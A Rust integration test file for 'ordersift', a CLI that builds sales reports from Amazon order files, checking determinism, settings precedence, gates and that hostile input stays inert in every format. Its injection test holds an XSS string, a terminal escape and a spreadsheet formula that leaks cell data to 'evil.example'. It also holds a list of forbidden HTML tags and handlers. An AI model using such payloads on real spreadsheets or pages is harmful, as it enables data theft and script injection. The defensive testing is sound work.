//! Every format of a whole run: inert whatever the files hold, the same bytes every time, and what jobs need of them.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::common::run::{named, of_files};
use calamine::{Reader, Xlsx, open_workbook};
use ordersift::options::Options;
use ordersift::table::Document;
use ordersift::write::Period;
use polars::prelude::{AnyValue, ParquetReader, SerReader};
use serde_json::{Value, json};

const ALL: &str = "json,csv,xlsx,html,md,parquet";

fn fixture(case: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures")
        .join(case)
}

fn run(args: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_ordersift"));
    command.env_remove("COLUMNS").env("NO_COLOR", "1");
    for name in ["BY", "FORMAT", "TIME_ZONE", "FAIL_IF", "CONFIG"] {
        command.env_remove(format!("ORDERSIFT_{name}"));
    }
    command.args(args).output().unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap()
}

/// A report of a fixture in all formats, in a folder that lives as long as the result.
fn published(case: &str, more: &[&str]) -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let out = folder.path().join("out");
    let input = fixture(case);
    let mut args = vec![
        "report",
        input.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ];
    args.extend(["--format", ALL, "--max-rejects", "100%", "--quiet"]);
    args.extend(more);
    let output = run(&args);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    folder
}

/// Every file of a folder with its bytes.
fn files(folder: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut found = BTreeMap::new();
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            found.extend(files(&path));
        } else {
            found.insert(path.clone(), fs::read(&path).unwrap());
        }
    }
    found
}

fn below(folder: &tempfile::TempDir) -> BTreeMap<PathBuf, Vec<u8>> {
    files(folder.path())
        .into_iter()
        .map(|(path, bytes)| (path.strip_prefix(folder.path()).unwrap().to_owned(), bytes))
        .collect()
}

fn no_steering(shown: &str, what: &str) {
    let odd = shown.find(|c: char| {
        c.is_control() && !matches!(c, '\n' | '\r')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}')
    });
    assert_eq!(
        odd.map(|at| &shown[at..(at + 30).min(shown.len())]),
        None,
        "{what}"
    );
}

/// Markdown without its code, in which nothing is a link or a mention.
fn without_code(markdown: &str) -> String {
    let plain = markdown.replace("\\`", "");
    let mut rest = plain.as_str();
    let mut outside = String::new();
    while let Some(start) = rest.find('`') {
        outside.push_str(&rest[..start]);
        let ticks = rest[start..]
            .bytes()
            .take_while(|byte| *byte == b'`')
            .count();
        let inside = &rest[start + ticks..];
        // It ends at a run of as many.
        let run = |at: usize| {
            inside[at..]
                .bytes()
                .take_while(|byte| *byte == b'`')
                .count()
        };
        let starts = (0..inside.len()).filter(|at| {
            inside.is_char_boundary(*at) && (*at == 0 || !inside[..*at].ends_with('`'))
        });
        let end = { starts }.find(|at| run(*at) == ticks).unwrap();
        rest = &inside[end + ticks..];
    }
    outside + rest
}

#[test]
fn what_files_hold_is_inert_in_every_format() {
    let folder = published("injection", &[]);
    let out = folder.path().join("out");
    let json: Value = serde_json::from_slice(&fs::read(out.join("report.json")).unwrap()).unwrap();
    let names: Vec<&str> = json["tables"]["skus"]["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["product_name"].as_str().unwrap())
        .collect();
    // Unchanged for programs.
    for expected in [
        "<script>alert(1)</script>",
        "nul \0 inside",
        "red \u{1b}[31m text",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    ] {
        assert!(names.contains(&expected), "{expected:?}");
    }
    assert!(names.contains(&"A".repeat(40_000).as_str()));

    let page = fs::read_to_string(out.join("report.html")).unwrap();
    no_steering(&page, "html");
    // Its own, and its data, which is no script that runs.
    assert_eq!(page.matches("<script").count(), 2);
    assert_eq!(
        page.matches("<script id=\"sales-data\" type=\"application/json\">")
            .count(),
        1
    );
    for tag in [
        "<img",
        "<b>",
        "<!--",
        "onerror=alert(1)>",
        "</script><script",
        " onmouseover=\"",
    ] {
        assert!(!page.contains(tag), "{tag}");
    }
    assert!(page.len() < 2_000_000);

    let summary = fs::read_to_string(out.join("report.md")).unwrap();
    no_steering(&summary, "md");
    assert!(!summary.contains("<script") && !summary.contains("<img"));
    let outside = without_code(&summary);
    for made in ["](http", "://", "www.", "@everyone", "#1"] {
        assert!(!outside.contains(made), "{made}");
    }

    for entry in fs::read_dir(out.join("tables")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|extension| extension == "csv") {
            for record in csv::Reader::from_path(&path).unwrap().records() {
                for cell in &record.unwrap() {
                    let first = cell.trim_start_matches([' ', '\u{200b}']).chars().next();
                    let number = cell.parse::<i64>().is_ok()
                        || cell.starts_with('-')
                            && cell[1..].starts_with(|c: char| c.is_ascii_digit());
                    assert!(
                        number || !matches!(first, Some('=' | '+' | '-' | '@' | '|' | '%' | '＝')),
                        "{path:?}: {cell:?}"
                    );
                }
            }
        }
    }
    let parquet = fs::File::open(out.join("tables/skus.parquet")).unwrap();
    let frame = ParquetReader::new(parquet).finish().unwrap();
    let column = frame.column("product_name").unwrap();
    for (row, name) in names.iter().enumerate() {
        assert_eq!(column.get(row).unwrap(), AnyValue::String(name));
    }
    let mut book: Xlsx<_> = open_workbook(out.join("report.xlsx")).unwrap();
    let sheet = book.worksheet_range("By SKU").unwrap();
    // Above the headings are a link to the index and an empty row.
    let place = sheet
        .rows()
        .nth(2)
        .unwrap()
        .iter()
        .position(|head| *head == "product_name")
        .unwrap();
    for (row, name) in sheet.rows().skip(3).zip(&names) {
        let shown = row[place].to_string();
        let cut = shown.strip_suffix('…').filter(|_| name.len() > 32_767);
        assert!(
            shown == **name || cut.is_some_and(|kept| name.starts_with(kept)),
            "{name:?}: {shown:?}"
        );
    }
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(
            formulas.cells().all(|(.., formula)| formula.is_empty()),
            "{name}"
        );
    }
}

#[test]
fn no_control_character_reaches_a_screen() {
    let input = fixture("injection");
    let input = input.to_str().unwrap();
    let tables = "fulfillment,status,channels,daily,weekly,monthly,hours,skus,late,worklist,sources,quality,rejects";
    for args in [
        &["report", input, "--max-rejects", "100%"][..],
        &["report", input, "--max-rejects", "100%", "--table", tables],
        &["report", input, "--fail-if", "rejected > 0"],
        &["check", input],
        &["report", input, "--max-rejects", "100%", "--format", "md"],
        &["report", input, "--max-rejects", "100%", "--format", "html"],
    ] {
        let output = run(args);
        no_steering(&text(&output.stdout), &format!("{args:?}"));
        no_steering(&text(&output.stderr), &format!("{args:?}"));
    }
}

#[test]
fn every_format_has_the_same_bytes_on_every_run_and_with_any_number_of_threads() {
    for case in ["first-week", "injection"] {
        let first = published(case, &["--threads", "1"]);
        let expected = below(&first);
        assert!(expected.len() > 28, "{:?}", expected.keys());
        for threads in ["1", "2", "7"] {
            let again = published(case, &["--threads", threads]);
            for (path, bytes) in below(&again) {
                assert!(
                    expected[&path] == bytes,
                    "{case}, {threads} threads: {}",
                    path.display()
                );
            }
        }
    }
}

#[test]
fn a_failed_gate_is_named_first_and_exits_with_1() {
    let input = fixture("first-week");
    let input = input.to_str().unwrap();
    let gates = [
        "--fail-if",
        "rejected_share > 50%",
        "--fail-if",
        "late_open > 0",
    ];
    let mut args = vec!["report", input, "--quiet"];
    args.extend(gates);
    let output = run(&args);
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(
        text(&output.stderr),
        "ordersift: gate failed: late_open > 0 (it is 4)\n"
    );
    assert!(text(&output.stdout).contains("Gates      failed: late_open > 0 (it is 4)"));

    args.extend(["--format", "json"]);
    let document: Value = serde_json::from_slice(&run(&args).stdout).unwrap();
    assert_eq!(document["gates"][0]["failed"], true);
    assert_eq!(document["gates"][1]["failed"], false);

    let passing = run(&[
        "report",
        input,
        "--quiet",
        "--fail-if",
        "sales_wow[USD] < -20%",
    ]);
    assert_eq!(passing.status.code(), Some(0), "{}", text(&passing.stderr));
    // What cannot be known is no pass.
    let unknown = run(&["report", input, "--quiet", "--fail-if", "sales[SEK] < 1"]);
    assert_eq!(unknown.status.code(), Some(1));
    assert!(text(&unknown.stderr).contains("not known: no sales in SEK"));
    let misspelt = run(&["report", input, "--fail-if", "late_opn > 0"]);
    assert_eq!(misspelt.status.code(), Some(2));
    assert!(text(&misspelt.stderr).contains("did you mean `late_open`?"));
    let worklist = run(&["worklist", input, "--quiet", "--fail-if", "due_today >= 1"]);
    assert_eq!(worklist.status.code(), Some(1));
}

#[test]
fn the_summary_is_appended_to_what_is_there() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("summary.md");
    fs::write(&file, "# Before\n\n").unwrap();
    let input = fixture("first-week");
    let args = [
        "report",
        input.to_str().unwrap(),
        "--quiet",
        "--append",
        file.to_str().unwrap(),
    ];
    assert_eq!(run(&args).status.code(), Some(0));
    let once = fs::read_to_string(&file).unwrap();
    assert!(once.starts_with("# Before\n\n## Week 2026-W30"), "{once}");
    assert!(once.len() < 200_000);
    run(&args);
    let twice = fs::read_to_string(&file).unwrap();
    assert!(twice.starts_with(&once) && twice.matches("## Week 2026-W30").count() == 2);
}

#[test]
fn settings_come_from_flags_then_the_environment_then_the_file() {
    let folder = tempfile::tempdir().unwrap();
    for file in ["orders-2026-07-27.txt", "unshipped-2026-07-27.txt"] {
        fs::copy(fixture("first-week").join(file), folder.path().join(file)).unwrap();
    }
    let path = folder.path().to_str().unwrap();
    let settings = folder.path().join("ordersift.toml");
    fs::write(&settings, "by = \"month\"\ntime-zone = \"Asia/Tokyo\"\nfail-if = [\"rejected > 1000\"]\nformat = [\"json\"]\n").unwrap();
    let options = |args: &[&str], variable: Option<&str>| -> Value {
        let mut command = Command::new(env!("CARGO_BIN_EXE_ordersift"));
        command.env_remove("ORDERSIFT_TIME_ZONE");
        if let Some(zone) = variable {
            command.env("ORDERSIFT_TIME_ZONE", zone);
        }
        let output = command
            .args(["report", path, "--quiet", "--format", "json"])
            .args(args)
            .output()
            .unwrap();
        let document: Value = serde_json::from_slice(&output.stdout).unwrap();
        document["options"]["time_zone"].clone()
    };
    assert_eq!(options(&[], None), "Asia/Tokyo");
    assert_eq!(options(&[], Some("UTC")), "UTC");
    assert_eq!(
        options(&["--time-zone", "Europe/Rome"], Some("UTC")),
        "Europe/Rome"
    );
    assert_eq!(options(&["--no-config"], None), Value::Null);
    // A variable that is empty is not set.
    assert_eq!(options(&[], Some("")), "Asia/Tokyo");

    // A setting that is yes or no.
    fs::write(&settings, "estimate-pending = true\n").unwrap();
    let output = run(&["report", path, "--quiet", "--format", "json"]);
    let document: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(document["options"]["estimate_pending"], "true");
    assert_ne!(document["tables"]["pending_estimate"]["rows"], json!([]));
    let printed = run(&["report", path, "--print-config"]);
    assert!(text(&printed.stdout).contains("\nestimate-pending = true   # "));
    fs::write(
        &settings,
        "by = \"month\"\ntime-zone = \"Asia/Tokyo\"\nformat = [\"json\"]\n",
    )
    .unwrap();

    // `format` is what is published: a screen, a pipe and a worklist are what they were.
    for args in [
        &["report", path, "--quiet"][..],
        &["worklist", path, "--quiet"],
    ] {
        let output = run(args);
        assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
        assert!(!output.stdout.starts_with(b"{"), "{args:?}");
    }
    let out = folder.path().join("out");
    run(&["report", path, "--quiet", "--out", out.to_str().unwrap()]);
    assert!(out.join("report.json").exists() && !out.join("tables").exists());
    fs::remove_dir_all(&out).unwrap();

    let out = out.to_str().unwrap();
    let printed = run(&[
        "report",
        path,
        "--print-config",
        "--by",
        "day",
        "--out",
        out,
    ]);
    let printed = text(&printed.stdout);
    let table: toml::Table = printed.parse().unwrap();
    assert_eq!(table["by"].as_str(), Some("day"));
    assert_eq!(table["time-zone"].as_str(), Some("Asia/Tokyo"));
    assert_eq!(table["format"][0].as_str(), Some("json"));
    assert!(printed.contains("# --by"), "{printed}");
    // What is printed can be used as it is.
    fs::write(&settings, &printed).unwrap();
    assert_eq!(options(&[], None), "Asia/Tokyo");

    for (wrong, expected) in [
        ("time-zon = \"UTC\"", "did you mean `time-zone`?"),
        ("time-zone = \"Europe/Belin\"", "not an IANA time zone"),
        (
            "strict = \"yes\"",
            "`yes`: provided string was not `true` or `false`",
        ),
        ("by = [1, [2]]", "1 | by = [1, [2]]"),
        ("by = [1, [2]]", "expected a text or a number"),
        ("table = [\"skuz\"]", "did you mean `skus`?"),
        ("threads = 0", "`0`: not a number from 1 to 1024"),
        ("by = ", "TOML parse error"),
    ] {
        fs::write(&settings, wrong).unwrap();
        let output = run(&["report", path]);
        let told = text(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{told}");
        assert!(
            told.contains("ordersift.toml") && told.contains(expected),
            "{told}"
        );
    }
}

#[test]
fn a_variable_counts_where_the_flag_is_not_given_and_is_named_if_it_is_wrong() {
    let folder = fixture("first-week");
    let path = folder.to_str().unwrap();
    let with = |name: &str, value: &str, args: &[&str]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_ordersift"));
        command.env(name, value).args(["report", path, "--quiet"]);
        command.args(args).output().unwrap()
    };
    let wrong = with("ORDERSIFT_TIME_ZONE", "Mars", &[]);
    assert_eq!(wrong.status.code(), Some(2));
    let expected = "ordersift: ORDERSIFT_TIME_ZONE: invalid value 'Mars' for '--time-zone <ZONE>': not an IANA time zone";
    assert!(
        text(&wrong.stderr).starts_with(expected),
        "{}",
        text(&wrong.stderr)
    );
    let flag = with("ORDERSIFT_TIME_ZONE", "Mars", &["--time-zone", "UTC"]);
    assert_eq!(flag.status.code(), Some(0));
    // The flag is wrong, whatever the variable is.
    let flag = with("ORDERSIFT_THREADS", "2", &["--time-zone", "Mars"]);
    let told = text(&flag.stderr);
    assert!(told.starts_with("error: invalid value 'Mars'"), "{told}");
    let gates = "rejected > 1000; rejected >= 0";
    assert_eq!(with("ORDERSIFT_FAIL_IF", gates, &[]).status.code(), Some(1));
    assert_eq!(with("ORDERSIFT_STRICT", "true", &[]).status.code(), Some(1));
    assert_eq!(
        with("ORDERSIFT_STRICT", "false", &[]).status.code(),
        Some(0)
    );
    // `format` is what is published.
    let screen = with("ORDERSIFT_FORMAT", "json", &[]);
    assert!(!screen.stdout.starts_with(b"{"));
    let printed = with(
        "ORDERSIFT_FORMAT",
        "json",
        &["--print-config", "--out", "out"],
    );
    let printed = text(&printed.stdout);
    assert!(
        printed.contains("\nformat = [\"json\"]   # ORDERSIFT_FORMAT: "),
        "{printed}"
    );
}

#[test]
fn everything_that_a_report_names_is_explained() {
    let report = fixture("first-week");
    let document = run(&["report", report.to_str().unwrap(), "--format", "json", "-q"]);
    let document: Value = serde_json::from_slice(&document.stdout).unwrap();
    for (table, content) in document["tables"].as_object().unwrap() {
        let told = text(&run(&["explain", table]).stdout);
        assert!(told.starts_with(&format!("{table}: table")), "{told}");
        for column in content["columns"].as_array().unwrap() {
            let name = column["name"].as_str().unwrap();
            assert!(told.contains(&format!("\n  {name}\n")), "{table}: {name}");
        }
    }
    let told = text(&run(&["explain", "cancel_by"]).stdout);
    assert!(told.contains("Source: Amazon"), "{told}");
    let misspelt = run(&["explain", "aovs"]);
    assert_eq!(misspelt.status.code(), Some(2));
    assert!(text(&misspelt.stderr).contains("did you mean `aov`?"));
}

#[test]
fn holidays_put_the_day_that_amazon_cancels_off() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("holidays.txt");
    fs::write(
        &file,
        "# Amazon counts business days\n2026-07-31  # invented\n",
    )
    .unwrap();
    let report = fixture("first-week");
    let first = |more: &[&str]| {
        let mut args = vec![
            "worklist",
            report.to_str().unwrap(),
            "--format",
            "json",
            "-q",
        ];
        args.extend(more);
        let document: Value = serde_json::from_slice(&run(&args).stdout).unwrap();
        let rows = document["tables"]["worklist"]["rows"]
            .as_array()
            .unwrap()
            .clone();
        let row = rows
            .into_iter()
            .find(|row| row["order_id"] == "114-9439854-8280210");
        row.unwrap()["cancel_by"].as_str().unwrap().to_owned()
    };
    // Seven business days after Tuesday, July 28.
    assert_eq!(first(&[]), "2026-08-06");
    assert_eq!(first(&["--holidays", file.to_str().unwrap()]), "2026-08-07");
    fs::write(&file, "31.07.2026\n").unwrap();
    let wrong = run(&[
        "worklist",
        report.to_str().unwrap(),
        "--holidays",
        file.to_str().unwrap(),
    ]);
    assert_eq!(wrong.status.code(), Some(2));
    assert!(text(&wrong.stderr).contains("holidays.txt:1: `31.07.2026` is not a day"));
}

#[test]
fn the_confirmation_file_holds_what_can_ship_and_replaces_nothing() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("ship.txt");
    let report = fixture("first-week");
    let args = [
        "worklist",
        report.to_str().unwrap(),
        "--format",
        "json",
        "-q",
        "--confirm-file",
        file.to_str().unwrap(),
    ];
    let output = run(&args);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let document: Value = serde_json::from_slice(&output.stdout).unwrap();
    let rows = document["tables"]["worklist"]["rows"].as_array().unwrap();
    let expected: Vec<String> = rows
        .iter()
        .filter(|row| row["hold"].is_null())
        .map(|row| {
            let cell = |name: &str| row[name].as_str().unwrap().to_owned();
            format!(
                "{}\t{}\t{}\t2026-07-30\t\t\t\t",
                cell("order_id"),
                cell("order_item_id"),
                row["quantity_to_ship"]
            )
        })
        .collect();
    assert!(!expected.is_empty() && expected.len() < rows.len());
    let written = fs::read_to_string(&file).unwrap();
    let mut lines = written.lines();
    assert_eq!(
        lines.next().unwrap(),
        "order-id\torder-item-id\tquantity\tship-date\tcarrier-code\tcarrier-name\ttracking-number\tship-method"
    );
    // In Tokyo it is the evening of the same day as in Los Angeles.
    assert_eq!(lines.collect::<Vec<_>>(), expected);
    let other = folder.path().join("from.txt");
    let settings = folder.path().join("ordersift.toml");
    fs::write(
        &settings,
        "ship-from = \"Shop|1 Main St||Tulsa|OK|74103|US\"\n",
    )
    .unwrap();
    let from = [
        "worklist",
        report.to_str().unwrap(),
        "-q",
        "--config",
        settings.to_str().unwrap(),
        "--confirm-file",
        other.to_str().unwrap(),
    ];
    assert_eq!(run(&from).status.code(), Some(0));
    let with_address = fs::read_to_string(&other).unwrap();
    assert!(
        with_address
            .lines()
            .next()
            .unwrap()
            .ends_with("\tship_from_address_countrycode")
    );
    assert!(
        with_address
            .lines()
            .skip(1)
            .all(|line| line.ends_with("\t\t\t\t\tShop\t1 Main St\t\tTulsa\tOK\t74103\tUS"))
    );
    fs::remove_file(&other).unwrap();
    fs::remove_file(&settings).unwrap();
    fs::write(&file, "filled in").unwrap();
    assert_eq!(run(&args).status.code(), Some(2));
    assert_eq!(fs::read_to_string(&file).unwrap(), "filled in");
    assert_eq!(fs::read_dir(folder.path()).unwrap().count(), 1);
}

#[test]
fn files_that_the_settings_name_lie_beside_the_settings() {
    let folder = tempfile::tempdir().unwrap();
    let report = "orders-2026-07-27.txt";
    fs::copy(
        fixture("first-week").join(report),
        folder.path().join(report),
    )
    .unwrap();
    for (setting, list) in [
        ("holidays", "2026-07-28\n"),
        ("claims", "113-0000000-0000001 2026-07-20\n"),
    ] {
        fs::write(
            folder.path().join("ordersift.toml"),
            format!("{setting} = \"lists/a.txt\"\n"),
        )
        .unwrap();
        fs::create_dir_all(folder.path().join("lists")).unwrap();
        fs::write(folder.path().join("lists/a.txt"), list).unwrap();
        let path = folder.path().join(report);
        let output = run(&["report", path.to_str().unwrap(), "--quiet"]);
        assert_eq!(
            output.status.code(),
            Some(0),
            "{setting}: {}",
            text(&output.stderr)
        );
    }
}

#[test]
fn the_command_line_describes_itself() {
    for shell in ["bash", "zsh", "fish", "powershell", "elvish"] {
        let output = run(&["completions", shell]);
        assert!(text(&output.stdout).contains("worklist"), "{shell}");
    }
    let page = text(&run(&["man"]).stdout);
    assert!(
        page.contains(".TH ordersift 1") && page.contains("worklist"),
        "{page}"
    );
    assert!(text(&run(&["man", "report"]).stdout).contains("fail\\-if"));
    let output = run(&["man", "repot"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(text(&output.stderr).contains("did you mean `report`?"));
}

/// The document of an all-orders file whose every line has a sales channel of its own.
fn of_channels(channels: usize) -> Document {
    let mut report = "amazon-order-id\tpurchase-date\tlast-updated-date\torder-status\tfulfillment-channel\tsales-channel\tsku\t\
                      product-name\titem-status\tquantity\tcurrency\titem-price\n"
        .to_owned();
    for at in 0..channels {
        let day = 1 + at % 28;
        writeln!(
            report,
            "111-0000000-{at:07}\t2026-07-{day:02}T10:00:00Z\t2026-07-29T10:00:00Z\tShipped\tAmazon\tShop {at}\tA\tThing\t\
             Shipped\t1\tUSD\t5.00"
        )
        .unwrap();
    }
    of_files(&named([report]), &Options::default()).unwrap()
}

#[test]
fn a_page_of_very_many_channels_stays_small() {
    let mut page = Vec::new();
    ordersift::write::html(&of_channels(8_000), Period::Week, &mut page).unwrap();
    let page = String::from_utf8(page).unwrap();
    assert!(page.len() < 1_000_000, "{} bytes", page.len());
    for table in ["channels", "daily", "weekly", "monthly", "changes"] {
        let rest = format!("rows. All of them: <code>tables/{table}.csv</code>");
        assert!(page.contains(&rest), "{table}");
    }
    let more = page.split(" more").map(|before| {
        let digits = before
            .rsplit(|letter: char| !letter.is_ascii_digit())
            .next();
        digits.and_then(|digits| digits.parse::<u64>().ok())
    });
    assert!(
        more.flatten().any(|series| series > 4_000),
        "the smaller series are one"
    );
}
